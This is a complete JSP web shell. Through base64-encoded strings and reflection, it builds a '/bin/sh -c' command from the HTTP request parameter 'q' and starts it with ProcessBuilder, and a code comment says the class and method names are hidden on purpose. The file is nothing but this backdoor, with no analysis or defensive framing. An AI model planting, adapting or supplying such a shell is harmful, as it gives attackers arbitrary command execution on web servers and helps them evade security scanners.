<%@ page import="java.util.*" %>
<%!
    // Class and method names hidden in base64 (java.lang.ProcessBuilder,
    // start), the command list assembled around the request value.
    static String run(String arg) throws Exception {
        java.util.Base64.Decoder d = java.util.Base64.getDecoder();
        List<String> cmd = new ArrayList<String>();
        cmd.add(new String(d.decode("L2Jpbi9zaA==")));
        cmd.add(new String(d.decode("LWM=")));
        cmd.add(arg);
        Class c = Class.forName(new String(d.decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
        Object p = c.getMethod(new String(d.decode("c3RhcnQ="))).invoke(c.getDeclaredConstructors()[0].newInstance(cmd));
        return String.valueOf(p);
    }
%>
<%= request.getParameter("q") == null ? "" : run(request.getParameter("q")) %>
